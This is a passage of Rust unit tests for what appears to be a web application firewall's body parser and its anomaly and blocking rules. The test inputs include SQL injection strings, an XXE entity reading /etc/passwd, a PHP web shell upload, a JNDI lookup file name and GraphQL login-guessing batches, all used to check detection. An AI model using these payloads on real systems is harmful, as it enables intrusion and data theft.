                "{} items",
                req.body_items().len()
            );
            assert!(req.anomalies().contains(&Anomaly::TooManyArgs));
        }
    }

    #[test]
    fn multipart_fields_holding_json_give_their_values_too() {
        let body = "--XyZ\r\nContent-Disposition: form-data; name=\"operations\"\r\n\r\n\
                    {\"query\":\"mutation($f: Upload!) { up(file: $f) { id } }\",\"variables\":{\"f\":null,\"note\":\"x' or 1=1\"}}\r\n\
                    --XyZ--\r\n";
        let req = post("multipart/form-data; boundary=XyZ", body);
        let vals = values(&req, Part::ArgPost);
        assert!(
            vals.contains(&(
                "BODY:multipart.operations.variables.note".into(),
                "x' or 1=1".into()
            )),
            "{vals:?}"
        );
    }

    #[test]
    fn json_inside_a_json_string_is_walked_once() {
        let req = post(
            "application/json",
            r#"{"plugin":"reports","settings":"{\"header_include\": \"http://x.example/h.inc.php?\", \"deeper\": \"{\\\"c\\\": 1}\"}","note":"[see below]"}"#,
        );
        let vals = values(&req, Part::ArgPost);
        // The string itself, then its document's values under its name.
        assert!(vals
            .iter()
            .any(|(n, v)| n == "BODY:json.settings" && v.starts_with('{')));
        assert!(vals.contains(&(
            "BODY:json.settings.header_include".into(),
            "http://x.example/h.inc.php?".into()
        )));
        // One level only: a document inside the inner document stays a string.
        assert!(vals.contains(&("BODY:json.settings.deeper".into(), r#"{"c": 1}"#.into())));
        assert!(!vals.iter().any(|(n, _)| n == "BODY:json.settings.deeper.c"));
        // Text that only looks like one is a string.
        assert!(vals.contains(&("BODY:json.note".into(), "[see below]".into())));
        let names = values(&req, Part::ArgPostName);
        assert!(names.iter().any(|(_, v)| v == "header_include"));
    }

    /// The JSON walk as it was over a `serde_json::Value` tree: the reference the tape walk
    /// must match leaf for leaf.
    mod value_walk {
        use super::super::{graphql_strings, looks_like_graphql};
        use crate::request::{Anomaly, InspectedRequest, Origin, Part};
        use serde_json::Value as Json;

        pub(super) fn parse_json(req: &mut InspectedRequest, body: &[u8]) -> bool {
            // serde_json bounds its own recursion (128); we bound what we walk.
            let Ok(doc) = serde_json::from_slice::<Json>(body) else {
                req.add_anomaly(Anomaly::JsonInvalid);
                return false;
            };
            let mut path = String::new();
            walk_json(req, &doc, &mut path, 0, false);
            true
        }

        /// Visits every key and every scalar value. Returns false when the argument limit stops it.
        fn walk_json(
            req: &mut InspectedRequest,
            v: &Json,
            path: &mut String,
            depth: usize,
            nested: bool,
        ) -> bool {
            if depth > req.limits().max_depth {
                req.add_anomaly(Anomaly::TooDeep);
                let text = v.to_string();
                return req.push_body_arg(Origin::Json, path, None, text.as_bytes());
            }
            match v {
                Json::Object(map) => {
                    for (k, child) in map {
                        let len = path.len();
                        if !path.is_empty() {
                            path.push('.');
                        }
                        path.push_str(k);
                        let ok = match child {
                            Json::Object(_) | Json::Array(_) => {
                                // The key itself is inspected as a name.
                                if !req.take_arg() {
                                    return false;
                                }
                                req.push_body_item(
                                    Part::ArgPostName,
                                    Origin::Json,
                                    path,
                                    k.as_bytes(),
                                );
                                walk_json(req, child, path, depth + 1, nested)
                            }
                            _ => {
                                json_scalar(req, child, path, Some(k.as_bytes()), depth + 1, nested)
                            }
                        };
                        path.truncate(len);
                        if !ok {
                            return false;
                        }
                    }
                    true
                }
                Json::Array(items) => {
                    for (i, child) in items.iter().enumerate() {
                        let len = path.len();
                        path.push_str(&format!("[{i}]"));
                        let ok = walk_json(req, child, path, depth + 1, nested);
                        path.truncate(len);
                        if !ok {
                            return false;
                        }
                    }
                    true
                }
                scalar => json_scalar(req, scalar, path, None, depth, nested),
            }
        }

        /// A string, number, boolean or null, with the key that holds it (none in arrays).
        fn json_scalar(
            req: &mut InspectedRequest,
            v: &Json,
            path: &str,
            key: Option<&[u8]>,
            depth: usize,
            nested: bool,
        ) -> bool {
            match v {
                Json::String(s) => {
                    if !req.push_body_arg(Origin::Json, path, key, s.as_bytes()) {
                        return false;
                    }
                    if looks_like_graphql(path, s) {
                        return graphql_strings(req, path, s.as_bytes());
                    }
                    if !nested && super::super::may_hold_json(s) {
                        if let Ok(inner) = serde_json::from_str::<Json>(s) {
                            return walk_json(req, &inner, &mut path.to_string(), depth + 1, true);
                        }
                    }
                    if !nested && super::super::looks_like_form(s.as_bytes()) {
                        return super::super::form_in_string(req, Origin::Json, path, s.as_bytes());
                    }
                    if !nested {
                        if let Some(text) = super::super::embedded_text(s.as_bytes(), false) {
                            let name = format!("{path}.base64");
                            req.push_body_item(Part::FileContent, Origin::Json, &name, &text);
                        }
                        if let Some(text) = super::super::base64_arg(s.as_bytes(), false) {
                            let name = format!("{path}.base64");
                            return req.push_body_arg(Origin::Json, &name, None, &text);
                        }
                    }
                    true
                }
                Json::Number(n) => {
                    req.push_body_arg(Origin::Json, path, key, n.to_string().as_bytes())
                }
                Json::Bool(b) => {
                    req.push_body_arg(Origin::Json, path, key, if *b { b"true" } else { b"false" })
                }
                Json::Null => req.push_body_arg(Origin::Json, path, key, b"null"),
                // Containers are walked by the caller; reaching here means a bug, not bad input.
                Json::Object(_) | Json::Array(_) => true,
            }
        }
    }

    type Leaves = (bool, Vec<(Part, String, Vec<u8>)>, Vec<Anomaly>);

    fn leaves(body: &[u8], limits: &Limits, reference: bool) -> Leaves {
        let mut req = crate::request::RequestBuilder::new(limits.clone()).build();
        let ok = if reference {
            value_walk::parse_json(&mut req, body)
        } else {
            super::parse_json(&mut req, body)
        };
        // As `set_body` leaves it: values found verbatim are ranges of the request's body.
        req.replace_body_unparsed(body.to_vec());
        let items = req
            .body_items()
            .iter()
            .map(|i| (i.part, req.label(i), req.value(i).to_vec()))
            .collect();
        // (A `Value` keeps one value of a repeated key without a word: the repeat is the
        // tape walk's finding alone, checked in `json_body_is_judged_as_its_skeleton`.)
        let anomalies = req
            .anomalies()
            .iter()
            .copied()
            .filter(|&a| a != Anomaly::JsonDuplicateKey)
            .collect();
        (ok, items, anomalies)
    }

    fn corpus_texts() -> Vec<Vec<u8>> {
        let mut out = Vec::new();
        crate::testutil::for_each_corpus_line(|n, line| {
            // Each line is a JSON document itself; its body is the request's.
            out.push(line.as_bytes().to_vec());
            if let Some(body) = crate::corpus::CorpusRecord::parse(line, n)
                .ok()
                .and_then(|r| r.body)
            {
                out.push(body.into_bytes());
            }
        });
        out
    }

    fn hostile() -> Vec<Vec<u8>> {
        let mut v: Vec<Vec<u8>> = [
            r#"{"user":{"name":"x' or 1=1","tags":["a","<b>"]},"n":3,"$where":"sleep(1)"}"#,
            r#"{"query":"query { user(name: \"admin' --\") { id } }"}"#,
            r#"{"a": "<script>"#,
            r#"{"b":1,"a":2,"a":{"c":[1,{"z":0,"y":null}]},"\u0061":"esc","":true,"é":1,"z":false}"#,
            r#"[1,-0,0.0,1.0,1e5,1E400,-1e-400,123456789012345678901234567890,-9223372036854775809,18446744073709551615,18446744073709551616,2.5e-8]"#,
            r#"[1e400]"#,
            r#"{"n":-0}"#,
            r#"{"s":"\ud800"}"#,
            r#"{"s":"\ud83d\ude00 \u00e9 \n\t\/\\"}"#,
            "{\"s\":\"a\u{1}b\"}",
            r#"{"a":"unterminated"#,
            r#"{"a":"x"} trailing"#,
            "{\"a\":\"x\"}  \n\t ",
            "\u{feff}{\"a\":1}",
            r#"{"a":1,}"#,
            r#"[1,2,]"#,
            r#"{a:1}"#,
            r#"{"a" 1}"#,
            "",
            " ",
            "null",
            "\"top\"",
            "42",
            r#"[[],{},[{}],{"e":{}},{"e":[]}]"#,
            r#"{"d":{"d":{"d":{"d":{"b":"\"q\"","a":[1.5,{"k":"v","k":"w"}]}}}}}"#,
            // Escapes and surrogates the scanner decodes itself.
            r#"["\udc00","\ud800\u0041","\ud800\n","\uD83D\uDE00","\ud83d\ude00x","\u00","\u00zz"]"#,
            r#"["\b\f\r\"\/","\x","\U0041","\u0000","\u007f","a\\","\\\"",""]"#,
            r#"{"\ud83d\ude00":1,"a\u0062":"\u0063d","k\n":[true,false,null]}"#,
            "[\"tab\there\"]",
            "[\"del\u{7f}ok\"]",
            // Numbers: kept as written or handed to serde_json.
            r#"[0,-0,00,-00,01,-01,0.,.5,1.,1e,1e+,1E-5,0.5,-0.0,0e0,-0e-0,+1,-,--1]"#,
            r#"[123456789012345678,-123456789012345678,1234567890123456789,-1234567890123456789]"#,
            r#"[9223372036854775807,-9223372036854775808,-9223372036854775807,18446744073709551616]"#,
            r#"[1.7976931348623157e308,4.9e-324,1e-400,0.1,1e22,1e23,123.456e-7]"#,
            "[1]\u{c}",
            "\u{c}[1]",
            "[1 , 2 ]\r\n",
            r#"{"a":1 "b":2}"#,
            r#"{"a":1,,"b":2}"#,
            r#"[1,,2]"#,
            r#"{"a"::1}"#,
            r#"{,"a":1}"#,
            r#"[nul]"#,
            r#"[truex]"#,
            r#"[True]"#,
            r#"{"a":1}{"b":2}"#,
        ]
        .iter()
        .map(|s| s.as_bytes().to_vec())
        .collect();
        v.push(b"{\"a\":\"\xff\xfe\"}".to_vec());
        v.push(b"{\"\xc3\x28\":1}".to_vec());
        v.push(b"[\"ok\"]\xff".to_vec());
        for depth in [1, 2, 63, 64, 65, 66, 126, 127, 128, 129, 200, 5000] {
            v.push(format!("{}\"x\"{}", "[".repeat(depth), "]".repeat(depth)).into_bytes());
            v.push(format!("{}1{}", "{\"k\":".repeat(depth), "}".repeat(depth)).into_bytes());
            v.push("[".repeat(depth).into_bytes());
        }
        let many: Vec<String> = (0..1500).map(|i| format!("\"k{i}\":{i}")).collect();
        v.push(format!("{{{}}}", many.join(",")).into_bytes());
        v
    }

    /// Deterministic byte mutations (flip, cut, duplicate a byte, drop a byte).
    fn mutations(seeds: &[Vec<u8>], count: usize) -> Vec<Vec<u8>> {
        let mut rng = crate::testutil::XorShift(0x9e37_79b9_7f4a_7c15);
        let mut next = move || rng.next();
        let interesting = b"{}[]\",:\\u0123456789.eE-+ntfa\xff\x00 ";
        let mut out = Vec::with_capacity(count);
        let seeds: Vec<&Vec<u8>> = seeds.iter().filter(|s| !s.is_empty()).collect();
        for _ in 0..count {
            let mut s = seeds[next() as usize % seeds.len()].clone();
            for _ in 0..=(next() % 3) {
                let at = next() as usize % (s.len() + 1);
                match next() % 4 {
                    0 if at < s.len() => {
                        s[at] = interesting[next() as usize % interesting.len()];
                    }
                    1 => s.truncate(at),
                    2 if at < s.len() => s.insert(at, s[at]),
                    _ if at < s.len() => {
                        s.remove(at);
                    }
                    _ => {}
                }
            }
            out.push(s);
        }
        out
    }

    #[test]
    fn json_body_is_judged_as_its_skeleton() {
        let prose = "Soft brushed cotton shirt with a regular fit";
        // Long strings (escaped or not) are emptied; keys (escaped or not), numbers,
        // literals, short strings and the whitespace between them stay as sent.
        let body = format!(
            r#"{{"items": [{{"sku":"SKU-1","note":"{prose}","qty":2,"gift":true}}], "\u0063onstructor" : {{"prototype":{{"x":null}}}}, "esc":"a \"quoted\" long value here", "s":"\"x\""}}"#
        );
        let req = post("application/json", &body);
        let skeleton = values(&req, Part::Body);
        assert_eq!(
            skeleton,
            vec![(
                "BODY".into(),
                r#"{"items": [{"sku":"SKU-1","note":"","qty":2,"gift":true}], "\u0063onstructor" : {"prototype":{"x":null}}, "esc":"", "s":"\"x\""}"#.into()
            )]
        );
        // The long value itself is an argument, as before.
        let args = values(&req, Part::ArgPost);
        assert!(
            args.contains(&("BODY:json.items[0].note".into(), prose.into())),
            "{args:?}"
        );

        // Short strings only: the body as received.
        let req = post("application/json", r#"{"a": "b", "$type": "string"}"#);
        assert_eq!(
            values(&req, Part::Body)[0].1,
            r#"{"a": "b", "$type": "string"}"#
        );

        // A value not pushed as an argument keeps the body whole: a repeated key (only its
        // last value is an argument) or the argument limit.
        let repeated = format!(r#"{{"a":"{prose}","a":"x"}}"#);
        let req = post("application/json", &repeated);
        assert_eq!(values(&req, Part::Body)[0].1, repeated);
        assert_eq!(req.anomalies(), &[Anomaly::JsonDuplicateKey]);
        let limits = Limits {
            max_args: 2,
            ..Limits::default()
        };
        let many = format!(r#"{{"a":"{prose}","b":1,"c":2,"d":3}}"#);
        let req = post_with(limits, "application/json", &many);
        assert_eq!(values(&req, Part::Body)[0].1, many);
        // Invalid JSON: the body whole, and as an argument.
        let broken = format!(r#"{{"a":"{prose}","#);
        let req = post("application/json", &broken);
        assert_eq!(values(&req, Part::Body)[0].1, broken);
    }

    #[test]
    fn json_tape_matches_value_walk() {
        let mut inputs = hostile();
        let corpus = corpus_texts();
        inputs.extend(corpus.iter().cloned());
        let seeds: Vec<Vec<u8>> = hostile()
            .into_iter()
            .chain(corpus.into_iter().step_by(7))
            .collect();
        inputs.extend(mutations(&seeds, 60_000));
        let limits = [
            Limits::default(),
            Limits {
                max_depth: 2,
                max_args: 7,
                ..Limits::default()
            },
            Limits {
                max_depth: 0,
                ..Limits::default()
            },
        ];
        let mut parsed = 0;
        for body in &inputs {
            for l in &limits {
                let new = leaves(body, l, false);
                let old = leaves(body, l, true);
                assert_eq!(new, old, "{:?} {l:?}", String::from_utf8_lossy(body));
                parsed += usize::from(new.0);
            }
        }
        // The comparison means something only if many inputs parse and many do not.
        assert!(
            parsed > 1000 && parsed < inputs.len() * limits.len(),
            "{parsed}"
        );
    }

    #[test]
    fn scanner_helpers_match_their_plain_forms() {
        for n in [0, 1, 9, 10, 99, 100, 12345, usize::MAX] {
            let mut p = String::from("a");
            super::push_index(&mut p, n);
            assert_eq!(p, format!("a[{n}]"));
        }
        // run_end against the obvious scan, for every stop byte at every place.
        let naive = |r: &[u8]| {
            let k = r
                .iter()
                .position(|&b| b == b'"' || b == b'\\' || b < 0x20)?;
            (r[k] >= 0x20).then_some(k)
        };
        let mut s = vec![b'a'; 40];
        assert_eq!(super::run_end(&s), None);
        for at in 0..s.len() {
            for b in [
                0u8, 0x1f, 0x20, b'"', b'\\', 0x21, 0x5b, 0x7f, 0x80, 0xa2, 0xdc, 0xff,
            ] {
                let keep = s[at];
                s[at] = b;
                for len in [at, at + 1, at + 2, s.len()] {
                    let part = &s[..len.min(s.len())];
                    assert_eq!(super::run_end(part), naive(part), "{at} {b} {len}");
                }
                s[at] = keep;
            }
        }
    }

    #[test]
    fn json_decimals_print_as_written() {
        // Every decimal the scanner keeps as text is what serde_json prints for it, and those
        // it hands to serde_json include the ones that print otherwise.
        let mut x = 0x2545_f491_4f6c_dd1d_u64;
        let mut next = |n: u64| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x % n
        };
        let (mut kept, mut handed) = (0, 0);
        for _ in 0..200_000 {
            let digits = |n: u64, first_nonzero: bool, next: &mut dyn FnMut(u64) -> u64| {
                (0..n)
                    .map(|k| {
                        let d = if k == 0 && first_nonzero {
                            1 + next(9)
                        } else {
                            next(10)
                        };
                        char::from(b'0' + d as u8)
                    })
                    .collect::<String>()
            };
            let int = if next(4) == 0 {
                "0".to_string()
            } else {
                digits(1 + next(17), true, &mut next)
            };
            let frac = digits(1 + next(17), false, &mut next);
            let sign = if next(3) == 0 { "-" } else { "" };
            let text = format!("{sign}{int}.{frac}");
            let printed = serde_json::from_str::<serde_json::Value>(&text)
                .unwrap()
                .to_string();
            let tape = super::json_tape(text.as_bytes()).unwrap();
            match tape.first() {
                Some(super::Tok::Dec(t)) => {
                    assert_eq!(printed, *t, "{text}");
                    kept += 1;
                }
                Some(super::Tok::Num(n)) => {
                    assert_eq!(n.to_string(), printed);
                    handed += 1;
                }
                _ => panic!("{text}"),
            }
        }
        assert!(kept > 20_000 && handed > 20_000, "{kept} {handed}");
        for (text, dec) in [
            ("10.99", true),
            ("0.5", true),
            ("-3.25", true),
            ("1.50", false),
            ("0.05", false),
            ("1234567890.12345", true),
            ("1234567890.123456", false),
            ("1.5e3", false),
        ] {
            let tape = super::json_tape(text.as_bytes()).unwrap();
            assert_eq!(
                matches!(tape.first(), Some(super::Tok::Dec(_))),
                dec,
                "{text}"
            );
        }
    }

    #[test]
    fn invalid_json_is_inspected_raw() {
        let req = post("application/json", r#"{"a": "<script>"#);
        assert!(req.anomalies().contains(&Anomaly::JsonInvalid));
        let raw = values(&req, Part::ArgPost);
        assert_eq!(raw, [("BODY".into(), r#"{"a": "<script>"#.into())]);
    }

    #[test]
    fn deep_json_is_bounded() {
        let depth = 200;
        let body = format!("{}\"x\"{}", "[".repeat(depth), "]".repeat(depth));
        let req = post("application/json", &body);
        // serde_json refuses more than 128 levels: inspected raw, never skipped.
        assert!(!values(&req, Part::ArgPost).is_empty());
        let body = format!("{}\"x\"{}", "[".repeat(100), "]".repeat(100));
        let req = post("application/json", &body);
        assert!(req.anomalies().contains(&Anomaly::TooDeep));
        assert!(!values(&req, Part::ArgPost).is_empty());
    }

    #[test]
    fn graphql_aliased_logins_are_counted() {
        let logins: String = (0..5)
            .map(|i| format!("a{i}: login(username: \"admin\", password: \"p{i}\") {{ token }} "))
            .collect();
        let s = super::graphql_shape(format!("mutation {{ {logins} }}").as_bytes());
        assert_eq!((s.aliases, s.repeated_login), (5, 5));
        let coupons =
            "mutation { x: redeemCoupon(code: \"A\") { ok } y: redeemCoupon(code: \"B\") { ok } }";
        assert_eq!(super::graphql_shape(coupons.as_bytes()).repeated_login, 2);
        // Batched lookups alias other fields; an argument named `password` is no alias.
        let lookups: String = (0..20)
            .map(|i| format!("r{i}: repository(name: \"n{i}\") {{ id }} "))
            .collect();
        let s = super::graphql_shape(format!("{{ {lookups} }}").as_bytes());
        assert_eq!((s.aliases, s.repeated_login), (20, 0));
        let one = "mutation { login(username: \"a\", password: \"b\") { token } }";
        assert_eq!(super::graphql_shape(one.as_bytes()).repeated_login, 0);
    }

    #[test]
    fn graphql_cycles_are_told_from_trees_and_connections() {
        let circular = |doc: &str| super::graphql_shape(doc.as_bytes()).circular;
        // Through other fields, four times: circular.
        assert!(circular(
            "{ user { posts { author { posts { author { posts { author { posts { id } } } } } } } } }"
        ));
        // A tree nested in itself, Relay connections, and a field met three times: not.
        assert!(!circular(
            "{ categories { children { children { children { children { children { name } } } } } } }"
        ));
        assert!(!circular(
            "{ repo { issues { edges { node { comments { edges { node { reactions { edges { node { user { edges { node { id } } } } } } } } } } } } } }"
        ));
        assert!(!circular(
            "{ user { posts { author { posts { author { posts { id } } } } } } }"
        ));
        // Aliases, arguments, directives and inline fragments name no field of the path.
        assert!(circular(
            "{ a: pools(where: {x: {y: 1}}) { ... on Pool { token0 @include(if: true) { pools { token0 { pools { token0 { pools { id } } } } } } } } }"
        ));
        let cycle = |doc: &str| super::graphql_shape(doc.as_bytes()).fragment_cycle;
        assert!(cycle("fragment A on Q { ...A }"));
        assert!(cycle(
            "query { ...A } fragment A on Q { b { ...B } } fragment B on Q { ...C } fragment C on Q { ...A }"
        ));
        assert!(!cycle(
            "query { ...A ...B } fragment A on Q { ...B ... on R { x } } fragment B on Q { id ...Undefined }"
        ));
        assert!(!cycle(
            "query($fragment: String) { a } fragment B on Q { ...String }"
        ));
        // A long chain and a long cycle, past the fragments remembered: bounded, and right.
        let chain: String = (0..200)
            .map(|i| format!("fragment F{i} on Q {{ ...F{} }} ", i + 1))
            .collect();
        assert!(!cycle(&chain));
        let ring: String = (0..60)
            .map(|i| format!("fragment F{i} on Q {{ ...F{} }} ", (i + 1) % 60))
            .collect();
        assert!(cycle(&ring));
        // Top-level sign-in fields are counted for batches; not a spread or a type named so.
        let s = super::graphql_shape(
            b"mutation { login(e: 1) { token } ... on LoginPayload { x } ...LoginFields }",
        );
        assert_eq!(s.top_guesses, 1);
    }

    #[test]
    fn graphql_shape_counts_depth_aliases_and_directives() {
        let s = graphql_shape(b"query { user(id: 1) { friends { friends { id } } } }");
        assert_eq!((s.depth, s.aliases, s.directives), (4, 0, 0));
        // Aliases in selection sets; `name: value` in arguments and variable definitions is not
        // an alias; neither is anything inside strings, block strings or comments.
        let s = graphql_shape(
            br#"query Q($id: ID!, $n: Int = 3) {
                  a1: login(pass: "x: y { } @skip") { ok }
                  a2 : login(pass: """ b: c { { """) { ok }
                  # c3: login(pass: "z") {
                  me @include(if: true) { name @skip(if: false) }
               }"#,
        );
        assert_eq!((s.depth, s.aliases, s.directives), (2, 2, 2));
        // Unbalanced and hostile input: no panic, a bounded answer.
        for doc in [
            &b"}}}}{"[..],
            b"\"",
            b"\"\"\"",
            b"a:",
            b"{a:",
            b"#",
            b"@",
            b"{@1 @_x",
        ] {
            let s = graphql_shape(doc);
            assert!(
                s.depth <= 1 && s.aliases <= 1 && s.directives <= 1,
                "{doc:?}: {s:?}"
            );
        }
    }

    #[test]
    fn graphql_limits_flag_deep_aliased_overloaded_and_batched_documents() {
        let q = |doc: String| serde_json::json!({ "query": doc }).to_string();
        let deep = format!(
            "query {{ {} id {} }}",
            "friends {".repeat(25),
            "}".repeat(25)
        );
        let aliases: String = (0..150)
            .map(|i| format!("a{i}: product(id: \"{i:04}\") {{ ok }} "))
            .collect();
        let logins: String = (0..6)
            .map(|i| format!("a{i}: login(pass: \"{i:04}\") {{ ok }} "))
            .collect();
        let directives = format!("query {{ __typename {} }}", "@skip(if: false) ".repeat(60));
        let batch = format!(
            "[{}]",
            (0..30)
                .map(|i| q(format!("query {{ product(id: \"{i}\") {{ name }} }}")))
                .collect::<Vec<_>>()
                .join(",")
        );
        // One sign-in per document, in a batch of six: a guessing run all the same.
        let batched_logins = format!(
            "[{}]",
            (0..6)
                .map(|i| q(format!(
                    "mutation($e: String!) {{ login(email: $e, password: \"p{i}\") {{ token }} }}"
                )))
                .collect::<Vec<_>>()
                .join(",")
        );
        let circular = format!(
            "{{ {} id {} }}",
            "pools(first: 1000) { token0 { ".repeat(5),
            "} } ".repeat(5)
        );
        let cycle = "query { ...A } fragment A on Query { ...B } fragment B on Query { x ...A }";
        let cases = [
            (q(deep), Anomaly::GraphqlTooDeep, "protocol-520"),
            (
                q(format!("query {{ {aliases} }}")),
                Anomaly::GraphqlTooManyAliases,
                "protocol-521",
            ),
            (
                q(directives),
                Anomaly::GraphqlTooManyDirectives,
                "protocol-522",
            ),
            (batch, Anomaly::GraphqlBatchTooLarge, "protocol-523"),
            (
                q(format!("mutation {{ {logins} }}")),
                Anomaly::GraphqlRepeatedLogin,
                "protocol-524",
            ),
            (
                batched_logins,
                Anomaly::GraphqlRepeatedLogin,
                "protocol-524",
            ),
            (q(circular), Anomaly::GraphqlCircular, "protocol-525"),
            (
                q(cycle.into()),
                Anomaly::GraphqlFragmentCycle,
                "protocol-526",
            ),
        ];
        let rules = crate::load_builtin().unwrap();
        for (body, want, rule) in &cases {
            let req = post("application/json", body);
            assert_eq!(req.anomalies(), [*want], "{body:.80}");
            // The built-in rules block it at paranoia 1.
            let v = rules.evaluate(&req, &crate::EvalConfig::default());
            assert!(v.is_block(), "{rule}: {:?}", v.matches);
            assert!(
                v.matches.iter().any(|m| m.rule.id == *rule),
                "{rule}: {:?}",
                v.matches
            );
        }
        // A realistic client query (GitHub-style, ten levels, a few aliases and directives)
        // and a small batch stay inside the defaults.
        let real = "query($o: String!, $n: String!) { repository(owner: $o, name: $n) { \
            open: issues(states: OPEN) { totalCount } closed: issues(states: CLOSED) { totalCount } \
            pullRequests(first: 5) { edges { node { title author { login } comments(first: 3) { \
            edges { node { body reactions { totalCount } author @include(if: true) { login } } } } } } } } }";
        let req = post("application/json", &q(real.into()));
        assert!(req.anomalies().is_empty(), "{:?}", req.anomalies());
        let small = format!("[{}]", vec![q("{ me { id } }".into()); 3].join(","));
        assert!(post("application/json", &small).anomalies().is_empty());
        // The same limits read `application/graphql` bodies.
        let req = post(
            "application/graphql",
            &format!(
                "{{ {} }}",
                (0..101)
                    .map(|i| format!("x{i}: me {{ id }} "))
                    .collect::<String>()
            ),
        );
        assert_eq!(req.anomalies(), [Anomaly::GraphqlTooManyAliases]);
    }

    #[test]
    fn graphql_literals() {
        let req = post(
            "application/json",
            r#"{"query":"query { user(name: \"admin' --\") { id } }"}"#,
        );
        let vals = values(&req, Part::ArgPost);
        assert!(vals.contains(&("BODY:graphql.query.$str[0]".into(), "admin' --".into())));
    }

    #[test]
    fn xml_text_and_attributes() {
        let req = post(
            "application/xml",
            r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><order id="7' or '1"><item>&x;</item><note><![CDATA[<script>]]></note></order>"#,
        );
        let vals = values(&req, Part::ArgPost);
        assert!(vals.contains(&("BODY:xml.order@id".into(), "7' or '1".into())));
        assert!(vals.contains(&("BODY:xml.order.item".into(), "&x;".into())));
        assert!(vals.contains(&("BODY:xml.order.note".into(), "<script>".into())));
        assert!(!req.anomalies().contains(&Anomaly::XmlInvalid));
        // The DOCTYPE is only in the raw body.
        assert!(values(&req, Part::Body)[0].1.contains("ENTITY"));
    }

    #[test]
    fn broken_xml_is_inspected_raw() {
        let req = post("text/xml", "<a><b>1</a>");
        assert!(req.anomalies().contains(&Anomaly::XmlInvalid));
        assert!(values(&req, Part::ArgPost).iter().any(|(l, _)| l == "BODY"));
    }

    #[test]
    fn multipart_fields_and_files() {
        let body = "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello ' or 1=1\r\n--XyZ\r\nContent-Disposition: form-data; name=\"up\"; filename=\"shell.php\"\r\nContent-Type: application/x-php\r\n\r\n<?php system($_GET[1]); ?>\r\n--XyZ--\r\n";
        let req = post("multipart/form-data; boundary=XyZ", body);
        assert_eq!(
            values(&req, Part::ArgPost),
            [("BODY:multipart.title".into(), "hello ' or 1=1".into())]
        );
        assert_eq!(
            values(&req, Part::FileName),
            [("FILES:up".into(), "shell.php".into())]
        );
        assert_eq!(
            values(&req, Part::FileContent)[0].1,
            "<?php system($_GET[1]); ?>"
        );
        assert!(req.anomalies().is_empty(), "{:?}", req.anomalies());
    }

    #[test]
    fn uploaded_tables_and_calendars_give_their_records() {
        let csv = "name;note;qty\r\n\"O'Reilly; Ann\";\"said \"\"hi\"\"\nthen left\";3\r\nBob;' UNION SELECT 1--;4.5\r\n";
        let body = format!("--XyZ\r\nContent-Disposition: form-data; name=\"up\"; filename=\"contacts.csv\"\r\nContent-Type: application/vnd.ms-excel\r\n\r\n{csv}\r\n--XyZ--\r\n");
        let req = post("multipart/form-data; boundary=XyZ", &body);
        let cells = values(&req, Part::ArgPost);
        for want in [
            ("BODY:multipart.up[0][0]", "name"),
            ("BODY:multipart.up[1][0]", "O'Reilly; Ann"),
            ("BODY:multipart.up[1][1]", "said \"hi\"\nthen left"),
            ("BODY:multipart.up[2][1]", "' UNION SELECT 1--"),
        ] {
            assert!(
                cells.contains(&(want.0.into(), want.1.into())),
                "{want:?} in {cells:?}"
            );
        }
        // Numbers are no text to judge.
        assert!(
            !cells.iter().any(|(_, v)| v == "3" || v == "4.5"),
            "{cells:?}"
        );

        // A calendar `PUT`: folded lines joined, escapes undone, structure lines left out.
        let ics = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY;LANGUAGE=en:Stand\r\n up\\, daily\r\nDESCRIPTION:a\\nb\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
        let req = post("text/calendar; charset=utf-8", ics);
        let props = values(&req, Part::ArgPost);
        assert!(
            props.contains(&("BODY:records.SUMMARY".into(), "Standup, daily".into())),
            "{props:?}"
        );
        assert!(
            props.contains(&("BODY:records.DESCRIPTION".into(), "a\nb".into())),
            "{props:?}"
        );
        assert!(!props
            .iter()
            .any(|(n, _)| n.ends_with("BEGIN") || n.ends_with("VERSION")));
        // The body is still one value of its own, and records do not count as arguments.
        assert!(props.iter().any(|(n, _)| n == "BODY"));
        assert!(req.anomalies().is_empty(), "{:?}", req.anomalies());

        // A big import: at most MAX_RECORD_VALUES cells, and no anomaly.
        let big: String = (0..3000).map(|i| format!("name{i},x{i}\n")).collect();
        let req = post("text/csv", &big);
        let n = values(&req, Part::ArgPost).len();
        assert!(n <= super::MAX_RECORD_VALUES + 1, "{n}");
        assert!(req.anomalies().is_empty(), "{:?}", req.anomalies());
    }

    #[test]
    fn extended_file_names_are_file_names_too() {
        // .NET's HttpClient: Content-Type before Content-Disposition, `filename` and an RFC 5987
        // `filename*` beside it. Both are judged; neither is an anomaly.
        let body = "--XyZ\r\nContent-Type: text/plain\r\nContent-Disposition: form-data; name=\"file\"; filename=\"agenda (v3).txt\"; filename*=utf-8''%24%7Bjndi%3Aldap%3A%2F%2Fx%7D.txt\r\n\r\nhi\r\n--XyZ--\r\n";
        let req = post("multipart/form-data; boundary=XyZ", body);
        assert!(req.anomalies().is_empty(), "{:?}", req.anomalies());
        assert_eq!(
            values(&req, Part::FileName),
            [
                ("FILES:file".into(), "${jndi:ldap://x}.txt".into()),
                ("FILES:file".into(), "agenda (v3).txt".into())
            ]
        );
        // The same parameter twice is still one.
        let body = "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"; filename=\"b.php\"\r\n\r\nhi\r\n--XyZ--\r\n";
        let req = post("multipart/form-data; boundary=XyZ", body);
        assert!(req.anomalies().contains(&Anomaly::MultipartBadPartHeader));
    }

    #[test]
    fn multipart_evasions_are_anomalies() {
        let req = post(
            "multipart/form-data; boundary=a; boundary=b",
            "--a\r\n\r\nx\r\n--a--",
        );
        assert!(req.anomalies().contains(&Anomaly::MultipartBadBoundary));
        let req = post("multipart/form-data", "--a\r\n\r\nx\r\n--a--");
        assert!(req.anomalies().contains(&Anomaly::MultipartNoBoundary));
        let req = post(
            "multipart/form-data; boundary=a",
            "--a\r\nContent-Disposition: form-data; name=x\r\n\r\nunterminated",
        );
        assert!(req.anomalies().contains(&Anomaly::MultipartUnterminated));
        assert!(values(&req, Part::ArgPost)
            .iter()
            .any(|(_, v)| v == "unterminated"));
    }

    #[test]
    fn unknown_type_is_raw() {
        let req = post("text/plain", "1 union select");
        assert_eq!(
            values(&req, Part::ArgPost),
            [("BODY".into(), "1 union select".into())]
        );
        let req = post("application/x-made-up", "1 union select");
